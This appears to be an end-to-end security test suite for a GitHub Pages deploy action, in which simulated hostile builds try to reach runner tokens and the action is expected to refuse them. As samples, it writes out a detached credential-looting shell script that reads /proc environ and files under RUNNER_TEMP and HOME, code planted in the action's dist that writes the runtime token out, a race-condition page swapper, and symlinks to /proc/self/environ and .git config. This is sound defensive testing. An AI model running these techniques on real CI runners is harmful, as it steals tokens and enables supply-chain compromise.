// End to end, an attacker's eye on the Pages "GitHub Actions" source: the site's install and build are untrusted
// code, as in untrusted.test.ts, and each test attacks the new route for real (the bundle run as the runner runs it,
// against the API, OIDC and artifact service stand-ins, Azurite behind the last): the runner's tokens read from
// where a build can look, a published page that holds the token, links and special files in the publish folder, a
// process left behind that changes the site while it is packed, redirects of the token's services, and a cancel
// during the pack, the upload and the OIDC request. A test marked `test.failing` shows a hole (see its `HOLE:`).
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import * as fs from 'node:fs/promises';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { ArtifactService } from '../support/artifact-service.mjs';
import { Azurite } from '../support/azurite.mjs';
import { tokenForms, useEndToEnd } from '../support/e2e.js';
import { FaultProxy } from '../support/fault-proxy.mjs';
import { BOT_TOKEN, GitHubApi } from '../support/github-api.mjs';
import { OidcService, PagesDeployments } from '../support/pages-deployments.mjs';
import { recorder } from '../support/recorder.js';
import { filesContaining, REPO_ROOT, runAction, type ActionResult, type Job } from '../support/run-action.mjs';

const e2e = useEndToEnd({ token: BOT_TOKEN });
let api: GitHubApi;
let oidc: OidcService;
let deployments: PagesDeployments;
let azurite: Azurite;
let artifacts: ArtifactService;

beforeAll(async () => {
  api = await GitHubApi.start(e2e.server);
  oidc = await OidcService.start();
  deployments = api.use(new PagesDeployments(oidc));
  azurite = await Azurite.start();
});

beforeEach(async () => {
  artifacts = await ArtifactService.start(azurite);
  deployments.artifactExists = (id) =>
    [...artifacts.artifacts.values()].some((artifact) => artifact.id === id && artifact.finalized);
});

afterEach(async () => {
  await artifacts.stop();
  api.expectValid();
});

afterAll(async () => {
  await api.stop();
  await oidc.stop();
  await azurite.stop();
});

/** What the runner sets for a job that may upload artifacts and ask for an OIDC token. */
function runnerEnv(): Record<string, string> {
  return {
    ...oidc.env,
    ACTIONS_RUNTIME_TOKEN: artifacts.token(),
    ACTIONS_RESULTS_URL: artifacts.url,
    GITHUB_SERVER_URL: 'https://github.com',
  };
}

/** A Pages-on-"GitHub Actions" repository, and a static-site job whose `site.conf` holds the token's placeholder. */
async function attackJob(
  prefix: string,
  options: { linkNodeModules?: boolean } = {},
): Promise<{ repo: string; job: Job }> {
  const repo = e2e.repoName(prefix);
  await e2e.server.createRepo(repo);
  api.setPages(repo, { buildType: 'workflow', htmlUrl: `https://octo.github.io/${repo.split('/')[1]}/` });
  const job = await e2e.job({ fixture: 'static-site', linkNodeModules: options.linkNodeModules ?? true });
  await fs.writeFile(path.join(job.workspace, 'site.conf'), 'token: GITHUB_ACCESS_TOKEN\n');
  return { repo, job };
}

interface DeployOptions {
  inputs?: Record<string, string>;
  env?: Record<string, string>;
  cancel?: { whenExists: string; signals?: ('SIGINT' | 'SIGTERM' | 'SIGKILL')[] };
  timeoutMs?: number;
  bundle?: string;
}

/** Runs the bundle through the Actions source with the token substituted into `site.conf` for the build. */
function deploy(job: Job, repo: string, build: string, options: DeployOptions = {}): Promise<ActionResult> {
  oidc.repository = repo;
  return runAction(job, {
    serverUrl: e2e.server.url,
    repository: repo,
    githubToken: BOT_TOKEN,
    env: { GITHUB_API_URL: `${api.url}/api/v3`, ...runnerEnv(), ...options.env },
    inputs: { build, 'pages-source': 'actions', 'config-file': 'site.conf', ...options.inputs },
    ...(options.cancel ? { cancel: options.cancel } : {}),
    ...(options.timeoutMs ? { timeoutMs: options.timeoutMs } : {}),
    ...(options.bundle ? { bundle: options.bundle } : {}),
  });
}

/** The uploaded `github-pages` artifact's tar, extracted under the job's root: undefined when none was uploaded. */
async function uploadedSite(job: Job): Promise<string | undefined> {
  const stored = await artifacts.readArtifact('github-pages');
  if (!stored) return undefined;
  const out = path.join(job.root, 'uploaded');
  await fs.mkdir(out, { recursive: true });
  await fs.writeFile(path.join(job.root, 'artifact.zip'), stored.content);
  execFileSync('unzip', ['-o', '-q', path.join(job.root, 'artifact.zip'), '-d', job.root]);
  execFileSync('tar', ['-xf', path.join(job.root, 'artifact.tar'), '-C', out]);
  return out;
}

/** The paths of every file of the uploaded site, sorted (undefined when none was uploaded). */
async function uploadedPaths(job: Job): Promise<string[] | undefined> {
  const out = await uploadedSite(job);
  if (!out) return undefined;
  const files = (await fs.readdir(out, { recursive: true, withFileTypes: true }))
    .filter((entry) => !entry.isDirectory())
    .map((entry) => path.relative(out, path.join(entry.parentPath, entry.name)));
  return files.sort();
}

/** Whether the uploaded artifact (the zip as Azurite holds it, and the tar's files) holds any of `secrets`. */
async function artifactHolds(job: Job, secrets: string[]): Promise<boolean> {
  const out = await uploadedSite(job);
  if (!out) return false;
  return (await filesContaining(out, secrets)).length > 0;
}

/** The three things a leaked published page must not lead to: an upload, a deployment, a token in the artifact. */
async function expectRefusedBeforeUpload(
  job: Job,
  repo: string,
  result: ActionResult,
  says = 'Refusing to publish: a file of the site contains the token or the deploy key',
): Promise<void> {
  expect(await artifactHolds(job, tokenForms(BOT_TOKEN))).toBe(false);
  expect(result.exitCode).toBe(1);
  expect(result.errors.join('\n')).toContain(says);
  expect(artifacts.requests.filter((request) => request.method === 'CreateArtifact')).toEqual([]);
  expect(deployments.deploymentsOf(repo)).toEqual([]);
}

/** Polls `check` every 20 ms until it holds or `ms` have passed; true when it held. */
async function until(check: () => boolean | Promise<boolean>, ms: number): Promise<boolean> {
  for (const end = Date.now() + ms; Date.now() < end;) {
    if (await check()) return true;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return false;
}

/** Kills a process a build left in a session of its own (its pid, written by the build): it outlives the step. */
async function killLeftover(pidFile: string): Promise<void> {
  const pid = Number((await fs.readFile(pidFile, 'utf8').catch(() => '')).trim());
  if (Number.isSafeInteger(pid) && pid > 1) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // gone already
    }
  }
}

/** The folders of RUNNER_TEMP and their contents, for "nothing left". */
async function leftIn(dir: string): Promise<string[]> {
  return (await fs.readdir(dir, { recursive: true })).sort();
}

describe('the runner tokens are out of reach of the build and of what it leaves behind', () => {
  test('no runtime, OIDC request or OIDC token in the env, /proc, RUNNER_TEMP or HOME, during the build or the upload and deployment', async () => {
    const { repo, job } = await attackJob('runner-tokens', { linkNodeModules: false });
    const loot = path.join(job.root, 'loot');
    const stop = path.join(job.root, 'stop-looting');
    const pidFile = path.join(job.root, 'looter.pid');
    // A looter: copies everything it can read that may hold a token (every process's environ and cmdline of this
    // job, ours and our parent's among them, and every file under RUNNER_TEMP, TMPDIR and HOME) into the loot folder.
    const looter = [
      'n=0',
      `while [ ! -e "${stop}" ] && [ $n -lt 1200 ]; do`,
      '  n=$((n+1)); d="$LOOT/$n"; mkdir -p "$d"',
      // This job's processes only (their environ names its RUNNER_TEMP): the suite's other files run the action
      // beside it, each with its own job, as other jobs run on other runners. And not the post step's (STATE_*):
      // the runner starts it with the inputs and its tokens again, a limit SECURITY.md states.
      '  for p in /proc/[0-9]*; do grep -qsF "$RUNNER_TEMP" "$p/environ" || continue; grep -qs "STATE_" "$p/environ" && continue; cat "$p/environ" > "$d/env.${p#/proc/}" 2>/dev/null; cat "$p/cmdline" > "$d/cmd.${p#/proc/}" 2>/dev/null; done',
      '  find "$RUNNER_TEMP" "$HOME" "${TMPDIR:-/nonexistent}" -type f -size -2M 2>/dev/null | while read -r f; do cat "$f" >> "$d/files" 2>/dev/null; done',
      '  sleep 0.1',
      'done',
    ].join('\n');
    await fs.writeFile(path.join(job.root, 'looter.sh'), looter);
    const build = [
      `mkdir -p "${loot}/build"`,
      `env > "${loot}/build/env"`,
      `cat /proc/$PPID/environ > "${loot}/build/parent-environ" 2>/dev/null`,
      `cat /proc/$PPID/cmdline > "${loot}/build/parent-cmdline" 2>/dev/null`,
      // Left behind in a session of its own, so that it outlives the build and watches the upload and deployment;
      // with an environment of its own making, which carries none of the step's mark (the action stops every process
      // that does once the build ends: see daemons.test.ts), as a hostile dependency's would.
      `env -i PATH="$PATH" HOME="$HOME" RUNNER_TEMP="$RUNNER_TEMP" TMPDIR="$TMPDIR" LOOT="${loot}" ` +
        `setsid nohup sh "${job.root}/looter.sh" > /dev/null 2>&1 < /dev/null & echo $! > "${pidFile}"`,
      // Long enough for setsid to have made its session before the build ends and its group is killed.
      'sleep 1',
    ].join('\n');
    const runtimeToken = artifacts.token();
    const issuedBefore = new Set(oidc.issued.keys());

    let result: ActionResult;
    try {
      result = await deploy(job, repo, build, { env: { ACTIONS_RUNTIME_TOKEN: runtimeToken } });
      await new Promise((resolve) => setTimeout(resolve, 500));
    } finally {
      await fs.writeFile(stop, '');
      await killLeftover(pidFile);
    }

    expect(result.errors).toEqual([]);
    expect(result.exitCode).toBe(0);
    const oidcTokens = [...oidc.issued.keys()].filter((token) => !issuedBefore.has(token));
    expect(oidcTokens).toHaveLength(1);
    // The looter ran, and found none of them, in any round.
    expect(existsSync(path.join(loot, '1'))).toBe(true);
    const secrets = [runtimeToken, oidc.requestToken, ...oidcTokens];
    expect(await filesContaining(loot, secrets)).toEqual([]);
    // Nor is any of them in a file of the job, nor printed.
    await fs.rm(loot, { recursive: true, force: true });
    expect(await filesContaining(job.root, secrets)).toEqual([]);
    const printed = `${result.stdout}\n${result.stderr}\n${result.post?.stdout ?? ''}`
      .split('\n')
      .filter((line) => !line.startsWith('::add-mask::'));
    expect(printed.filter((line) => secrets.some((secret) => line.includes(secret)))).toEqual([]);
  });

  test("a build that rewrites the action's dist/ runs none of it: the artifact client was loaded before the build", async () => {
    // The runner runs the action from a folder the job's user may write. @actions/artifact (its own chunk) is
    // used after the build, in the process that holds the runtime token and asks for the OIDC token.
    const { repo, job } = await attackJob('rewritten-dist');
    const dist = path.join(job.root, 'action', 'dist');
    await fs.cp(path.join(REPO_ROOT, 'dist'), dist, { recursive: true });
    const ran = path.join(job.root, 'planted-ran');
    const plant = `require("fs").writeFileSync(${JSON.stringify(ran)}, String(process.env.ACTIONS_RUNTIME_TOKEN));`;
    const build =
      `for chunk in $(grep -l "DefaultArtifactClient" "${dist}"/*.index.js); do ` +
      `printf '%s' '${plant}' > "$chunk"; echo "rewrote $chunk"; done`;

    const result = await deploy(job, repo, build, { bundle: path.join(dist, 'index.js') });

    expect(result.log).toMatch(/rewrote .*\.index\.js/);
    expect(result.errors).toEqual([]);
    expect(existsSync(ran)).toBe(false);
    expect(deployments.deploymentsOf(repo).map((made) => made.status)).toEqual(['succeed']);
  });
});

describe('a published page that holds the token is refused before the upload', () => {
  test('a page of the publish folder that holds the token (the control: the leak guard refuses it)', async () => {
    const { repo, job } = await attackJob('leak-page');

    const result = await deploy(job, repo, 'cp site.conf public/leak.html');

    await expectRefusedBeforeUpload(job, repo, result);
  });

  // Was a hole: the route's first leak guard read only the files of 50 MiB or less, while the pack stores every
  // file. The pack now searches the very bytes it reads (pages-artifact/pack.ts LeakSearch), whatever the size.
  test('a page over 50 MiB that holds the token is refused before the upload', async () => {
    const { repo, job } = await attackJob('leak-large');

    const result = await deploy(job, repo, '{ cat site.conf; head -c 53000000 /dev/zero; } > public/large.bin');

    await expectRefusedBeforeUpload(job, repo, result);
  });

  // Was a hole: the first leak guard skipped symbolic links, while the pack stored a link into the workspace as the
  // file it names. A link out of the site is now refused on every route, by the one read (publish-folder/links.ts).
  test('a link in the publish folder to a file of node_modules that holds the token is refused before the upload', async () => {
    const { repo, job } = await attackJob('leak-link', { linkNodeModules: false });
    const build = [
      'mkdir -p node_modules/innocent',
      'cp site.conf node_modules/innocent/settings.txt',
      'ln -s ../node_modules/innocent/settings.txt public/settings.txt',
    ].join(' && ');

    const result = await deploy(job, repo, build);

    await expectRefusedBeforeUpload(
      job,
      repo,
      result,
      'The symbolic link "public/settings.txt" of publish-dir leads out of the site (to ' +
        'node_modules/innocent/settings.txt in the workspace), so nothing was published',
    );
  });

  // Held: the pack refuses a link into a .git folder as the push does (shared/paths.ts's escapes), so the checkout's
  // .git/config, which the workspace scrub never touches and which holds actions/checkout's extraheader, is not
  // published.
  test("a link to the checkout's .git folder (its config holds the job's token) is refused", async () => {
    const { repo, job } = await attackJob('leak-git-link');
    await fs.mkdir(path.join(job.workspace, '.git'), { recursive: true });
    const header = Buffer.from(`x-access-token:${BOT_TOKEN}`).toString('base64');
    await fs.writeFile(
      path.join(job.workspace, '.git', 'config'),
      `[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${header}\n`,
    );

    const result = await deploy(job, repo, 'ln -s ../.git public/source');

    await expectRefusedBeforeUpload(
      job,
      repo,
      result,
      'The symbolic link "public/source" of publish-dir leads into a .git folder',
    );
  });
});

describe('what the publish folder holds: refused naming it, before any upload', () => {
  test.each([
    ['a FIFO', 'mkfifo public/pipe', 'pipe in the publish folder is not a file, folder or link'],
    [
      'a socket',
      `python3 -c "import socket; socket.socket(socket.AF_UNIX).bind('public/sock')"`,
      'sock in the publish folder is not a file, folder or link',
    ],
    ['a link to a device', 'ln -s /dev/zero public/zero', '"public/zero" of publish-dir leads out of the workspace'],
    [
      'a link to /proc',
      'ln -s /proc/self/environ public/env.txt',
      '"public/env.txt" of publish-dir leads out of the workspace',
    ],
    ['a link to HOME', 'ln -s "$HOME" public/home', '"public/home" of publish-dir leads out of the workspace'],
    [
      'a link to a FIFO inside the workspace',
      'mkfifo pipe && ln -s ../pipe public/pipe',
      '"public/pipe" of publish-dir leads out of the site (to pipe in the workspace)',
    ],
    [
      'a link that loops',
      'ln -s . public/loop',
      'loop in the publish folder is a symbolic link to a folder that holds it',
    ],
  ])('%s', async (_what, build, message) => {
    const { repo, job } = await attackJob('special');

    const result = await deploy(job, repo, build);

    expect(result.exitCode).toBe(1);
    expect(result.errors.join('\n')).toContain(message);
    expect(artifacts.requests).toEqual([]);
    expect(deployments.deploymentsOf(repo)).toEqual([]);
    expect(await leftIn(job.runnerTemp)).toEqual([]);
  });

  test('a sparse file of 11 GiB is refused by its size before anything is written or uploaded', async () => {
    const { repo, job } = await attackJob('sparse');

    const result = await deploy(job, repo, 'truncate -s 11G public/huge.bin');

    expect(result.exitCode).toBe(1);
    expect(result.errors.join('\n')).toContain('over the 10 GiB GitHub Pages deploys at most');
    expect(artifacts.requests).toEqual([]);
    expect(await leftIn(job.runnerTemp)).toEqual([]);
  });

  test('.git and .github at any depth are left out; dotfiles, odd names and hard links to outside are packed as files', async () => {
    const { repo, job } = await attackJob('names');
    const outside = path.join(job.home, 'outside.txt');
    await fs.writeFile(outside, 'not a secret, readable by the build anyway\n');
    const build = [
      'mkdir -p public/a/.git public/b/c/.github public/.well-known',
      'echo x > public/a/.git/config && echo x > public/b/c/.github/workflow.yml && echo y > public/.well-known/security.txt',
      'echo z > public/.git && echo n > "public/new',
      'line.html" && echo d > public/..dots && echo q > "public/-rf" && echo s > "public/ space.html"',
      `ln "${outside}" public/hard.txt 2>/dev/null || cp "${outside}" public/hard.txt`,
    ].join('\n');

    const result = await deploy(job, repo, build);

    expect(result.errors).toEqual([]);
    expect(result.exitCode).toBe(0);
    expect(await uploadedPaths(job)).toEqual(
      [
        ' space.html',
        '-rf',
        '..dots',
        '.well-known/security.txt',
        'assets/run.sh',
        'assets/style.css',
        'hard.txt',
        'index.html',
        'new\nline.html',
      ].sort(),
    );
  });
});

describe('a process the build left behind, while the site is packed', () => {
  // Was a hole: the leak check and the pack read the publish folder twice. A process the build left in a session of
  // its own (documented as able to outlive the build) that read the token from the substituted config waits for
  // the pack to start (its folder pages-artifact-* appears under RUNNER_TEMP) and writes the token into a page of
  // the same size. The pack now searches the bytes it packs, in the one read: what is uploaded is what was checked.
  test('a page rewritten with the token during the pack is not uploaded', async () => {
    const { repo, job } = await attackJob('toctou', { linkNodeModules: false });
    const pidFile = path.join(job.root, 'swapper.pid');
    const swapper = `
      const fs = require('node:fs'), path = require('node:path');
      const token = fs.readFileSync('site.conf', 'utf8');
      const page = path.resolve('public/zz-last.html');
      const size = fs.statSync(page).size;
      const dirty = Buffer.alloc(size, ' '); Buffer.from(token).copy(dirty);
      const temp = process.env.RUNNER_TEMP, end = Date.now() + 60000;
      const packing = () => { try { return fs.readdirSync(temp, { recursive: true }).some((n) => n.includes('pages-artifact-')); } catch { return false; } };
      const tick = () => { if (packing()) { fs.writeFileSync(page + '.swap', dirty); fs.renameSync(page + '.swap', page); fs.writeFileSync(page + '.done', ''); return; } if (Date.now() < end) setImmediate(tick); };
      tick();`;
    await fs.writeFile(path.join(job.root, 'swapper.cjs'), swapper);
    // A large file first in the tar gives the pack time; the page the swapper rewrites is packed last, after more
    // pages than the pack reads ahead of its writing (32).
    const build = [
      'truncate -s 400M public/aa-large.bin',
      'for i in $(seq 10 60); do echo "page $i" > public/ab-$i.html; done',
      'head -c 300 /dev/zero | tr "\\0" "x" > public/zz-last.html',
      // Without the step's mark in its environment (see the looter above), so that it outlives the build.
      `env -i PATH="$PATH" RUNNER_TEMP="$RUNNER_TEMP" setsid nohup "${process.execPath}" "${job.root}/swapper.cjs" ` +
        `> /dev/null 2>&1 < /dev/null & echo $! > "${pidFile}"`,
      'sleep 1',
    ].join('\n');

    let result: ActionResult;
    try {
      result = await deploy(job, repo, build);
    } finally {
      await killLeftover(pidFile);
    }

    // The swapper did write its page during the pack (else the race was lost, not the attack refused).
    expect(existsSync(path.join(job.workspace, 'public', 'zz-last.html.done'))).toBe(true);
    expect(await artifactHolds(job, tokenForms(BOT_TOKEN))).toBe(false);
    expect(deployments.deploymentsOf(repo).filter((made) => made.status === 'succeed')).toEqual([]);
    expect(result.exitCode).toBe(1);
  });
});

/** A server of our own (an OIDC token service, a results service's front), on loopback. */
async function serve(handler: http.RequestListener): Promise<{ url: string; stop: () => Promise<void> }> {
  const server = http.createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    stop: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => {
          resolve();
        });
      }),
  };
}

describe('where the tokens go', () => {
  test('a redirect of the OIDC token service to another host is refused: the request token does not follow', async () => {
    const { repo, job } = await attackJob('oidc-redirect');
    const trap = await recorder();
    const redirecting = await serve((request, response) => {
      response.writeHead(307, { location: `${trap.url}/token?api-version=2.0` }).end();
    });
    try {
      const result = await deploy(job, repo, 'true', {
        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${redirecting.url}/token?api-version=2.0` },
      });

      expect(result.exitCode).toBe(1);
      expect(result.errors.join('\n')).toContain('refused a redirect to');
      expect(trap.requests).toEqual([]);
      expect(deployments.deploymentsOf(repo)).toEqual([]);
      expect(await leftIn(job.runnerTemp)).toEqual([]);
    } finally {
      await redirecting.stop();
      await trap.stop();
    }
  });

  // Was a hole: @actions/artifact's Twirp client makes its HttpClient with a BearerCredentialHandler, which puts
  // `Bearer <ACTIONS_RUNTIME_TOKEN>` back on a redirect to another host name (@actions/http-client takes it off, then
  // lets every handler prepare the redirected request), and @actions/http-client keeps it on a redirect to another
  // port of the same host: an answer 3xx of ACTIONS_RESULTS_URL sent the runtime token wherever it named, five times
  // with the retries. upload.ts now refuses, before it is sent, any request of the upload that carries an
  // authorization to another origin than ACTIONS_RESULTS_URL's, and the step fails naming the redirect's host.
  test.each([
    // "localhost" is another host name than the service's 127.0.0.1.
    ['another host name', (trapUrl: string) => trapUrl.replace('127.0.0.1', 'localhost')],
    ['another port of the same host', (trapUrl: string) => trapUrl],
  ])(
    'a redirect of the results service to %s is refused: the runtime token does not follow',
    async (_where, trapAddress) => {
      const { repo, job } = await attackJob('results-redirect');
      const trap = await recorder();
      const trapUrl = trapAddress(trap.url);
      const redirecting = await serve((request, response) => {
        response.writeHead(307, { location: `${trapUrl}${request.url ?? '/'}` }).end();
      });
      const runtimeToken = artifacts.token();
      try {
        const result = await deploy(job, repo, 'true', {
          env: { ACTIONS_RESULTS_URL: `${redirecting.url}/`, ACTIONS_RUNTIME_TOKEN: runtimeToken },
        });

        expect(result.exitCode).toBe(1);
        expect(result.errors.join('\n')).toContain(
          `redirected the artifact upload to ${new URL(trapUrl).origin}, another host: refused`,
        );
        // Nothing reached the trap: the redirected request was refused before it was sent.
        expect(trap.requests).toEqual([]);
        // Nor was it printed (the log is masked: the raw output is read).
        const printed = `${result.stdout}\n${result.stderr}`.split('\n');
        const lines = printed.filter((line) => !line.startsWith('::add-mask::') && line.includes(runtimeToken));
        expect(lines).toEqual([]);
        expect(deployments.deploymentsOf(repo)).toEqual([]);
        expect(await leftIn(job.runnerTemp)).toEqual([]);
      } finally {
        await redirecting.stop();
        await trap.stop();
      }
    },
  );
});

describe('a cancel at each stage leaves nothing behind', () => {
  test('during the pack: nothing uploaded, no deployment, no tar left', async () => {
    const { repo, job } = await attackJob('cancel-pack');
    const cancelNow = path.join(job.root, 'cancel-now');
    const watch = until(async () => {
      const names = await fs.readdir(job.runnerTemp, { recursive: true }).catch(() => []);
      if (!names.some((name) => name.includes('pages-artifact-'))) return false;
      await fs.writeFile(cancelNow, '');
      return true;
    }, 60000);

    const result = await deploy(job, repo, 'truncate -s 1500M public/large.bin', {
      cancel: { whenExists: cancelNow },
    });

    expect(await watch).toBe(true);
    expect(result.exitCode).not.toBe(0);
    expect(result.errors.join('\n')).toContain('SIGINT');
    expect(artifacts.requests.filter((request) => request.method === 'FinalizeArtifact')).toEqual([]);
    expect(deployments.deploymentsOf(repo)).toEqual([]);
    expect(await leftIn(job.runnerTemp)).toEqual([]);
    expect(result.post?.exitCode).toBe(0);
  });

  test('during the upload (the blob store stalls): not finalized, no deployment, no tar left', async () => {
    const { repo, job } = await attackJob('cancel-upload');
    await artifacts.stop();
    const stall = await FaultProxy.start(azurite.port, [
      { match: (request) => request.method === 'PUT', action: 'stall' },
    ]);
    artifacts = await ArtifactService.start(azurite, { uploadBase: stall.url });
    const cancelNow = path.join(job.root, 'cancel-now');
    const watch = until(async () => {
      if (!artifacts.requests.some((request) => request.method === 'CreateArtifact')) return false;
      await new Promise((resolve) => setTimeout(resolve, 500));
      await fs.writeFile(cancelNow, '');
      return true;
    }, 60000);
    try {
      const result = await deploy(job, repo, 'true', { cancel: { whenExists: cancelNow } });

      expect(await watch).toBe(true);
      expect(result.exitCode).not.toBe(0);
      expect(result.errors.join('\n')).toContain('SIGINT');
      expect([...artifacts.artifacts.values()].filter((artifact) => artifact.finalized)).toEqual([]);
      expect(deployments.deploymentsOf(repo)).toEqual([]);
      expect(await leftIn(job.runnerTemp)).toEqual([]);
      expect(result.post?.exitCode).toBe(0);
    } finally {
      await stall.stop();
    }
  });

  test('during the OIDC request (the service holds it): no deployment, nothing left, quickly', async () => {
    const { repo, job } = await attackJob('cancel-oidc');
    const cancelNow = path.join(job.root, 'cancel-now');
    const holding = await serve(() => {
      void fs.writeFile(cancelNow, '');
      // never answered
    });
    try {
      const started = Date.now();
      const result = await deploy(job, repo, 'true', {
        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${holding.url}/token?api-version=2.0` },
        cancel: { whenExists: cancelNow },
      });

      expect(result.exitCode).not.toBe(0);
      expect(result.signals).toEqual(['SIGINT']);
      expect(result.errors.join('\n')).toContain('SIGINT');
      expect(Date.now() - started).toBeLessThan(60000);
      expect(deployments.deploymentsOf(repo)).toEqual([]);
      expect(await leftIn(job.runnerTemp)).toEqual([]);
      expect(result.post?.exitCode).toBe(0);
    } finally {
      await holding.stop();
    }
  });

  test('killed (SIGKILL) during the upload: the post step leaves no tar in RUNNER_TEMP', async () => {
    const { repo, job } = await attackJob('kill-upload');
    await artifacts.stop();
    const stall = await FaultProxy.start(azurite.port, [
      { match: (request) => request.method === 'PUT', action: 'stall' },
    ]);
    artifacts = await ArtifactService.start(azurite, { uploadBase: stall.url });
    const cancelNow = path.join(job.root, 'cancel-now');
    const watch = until(async () => {
      if (!artifacts.requests.some((request) => request.method === 'CreateArtifact')) return false;
      await new Promise((resolve) => setTimeout(resolve, 500));
      await fs.writeFile(cancelNow, '');
      return true;
    }, 60000);
    try {
      const result = await deploy(job, repo, 'true', { cancel: { whenExists: cancelNow, signals: ['SIGKILL'] } });

      expect(await watch).toBe(true);
      expect(result.signals).toEqual(['SIGKILL']);
      expect(deployments.deploymentsOf(repo)).toEqual([]);
      expect(result.post?.exitCode).toBe(0);
      expect(await leftIn(job.runnerTemp)).toEqual([]);
    } finally {
      await stall.stop();
    }
  });
});

/** A front of the API stand-in that passes every call on, but answers the deployment's creation with `answer`. */
async function apiFront(
  answer: (response: http.ServerResponse) => void,
): Promise<{ url: string; stop: () => Promise<void> }> {
  const upstream = new URL(api.url);
  return serve((request, response) => {
    if (request.method === 'POST' && (request.url ?? '').endsWith('/pages/deployments')) {
      request.resume();
      answer(response);
      return;
    }
    const forward = http.request(
      {
        host: upstream.hostname,
        port: upstream.port,
        path: request.url,
        method: request.method,
        headers: request.headers,
      },
      (answered) => {
        response.writeHead(answered.statusCode ?? 502, answered.headers);
        answered.pipe(response);
      },
    );
    forward.on('error', () => response.destroy());
    request.pipe(forward);
  });
}

describe('the OIDC token goes to the API only', () => {
  test('a redirect of the deployment call to another host is refused: the OIDC token and the token do not follow', async () => {
    const { repo, job } = await attackJob('api-redirect');
    const trap = await recorder();
    const front = await apiFront((response) => {
      response.writeHead(307, { location: `${trap.url}/repos/${repo}/pages/deployments` }).end();
    });
    const issuedBefore = new Set(oidc.issued.keys());
    try {
      const result = await deploy(job, repo, 'true', { env: { GITHUB_API_URL: `${front.url}/api/v3` } });

      expect(result.exitCode).toBe(1);
      expect(result.errors.join('\n')).toContain('refused to send the token to');
      expect(trap.requests).toEqual([]);
      const oidcTokens = [...oidc.issued.keys()].filter((token) => !issuedBefore.has(token));
      expect(oidcTokens).toHaveLength(1);
      expect(result.log).not.toContain(oidcTokens[0] ?? 'no token');
      expect(await leftIn(job.runnerTemp)).toEqual([]);
    } finally {
      await front.stop();
      await trap.stop();
    }
  });
});

describe('a main step killed mid-deployment', () => {
  // Was a hole: the deployment's id was kept in memory only, so a main step killed while it followed the deployment
  // (SIGKILL: the runner's cancel once 10 s have passed, the job's timeout-minutes, the OOM killer) left it in
  // progress, and the next run's deployment was refused ("in progress deployment") until GitHub ended it. The main
  // step now saves the id to the step's state as soon as the deployment is made (deploy/actions.ts), and the post
  // step cancels one still in progress (post/left-deployment.ts), with the `token` input the runner gives it again.
  test('killed (SIGKILL) while the deployment is followed: the post step cancels it', async () => {
    const { repo, job } = await attackJob('kill-deployment');
    deployments.script(repo, ['deployment_in_progress']);
    const cancelNow = path.join(job.root, 'cancel-now');
    const watch = until(async () => {
      const [made] = deployments.deploymentsOf(repo);
      if (!made || made.statuses.length < 2) return false;
      await fs.writeFile(cancelNow, '');
      return true;
    }, 60000);

    const result = await deploy(job, repo, 'true', { cancel: { whenExists: cancelNow, signals: ['SIGKILL'] } });

    expect(await watch).toBe(true);
    expect(result.signals).toEqual(['SIGKILL']);
    expect(result.post?.exitCode).toBe(0);
    expect(await leftIn(job.runnerTemp)).toEqual([]);
    expect(deployments.deploymentsOf(repo).map((made) => made.status)).toEqual(['deployment_cancelled']);
    expect(result.post?.stdout).toContain('is still in progress (deployment in progress): cancelling it.');
    expect(result.post?.warnings).toEqual([]);
  });
});
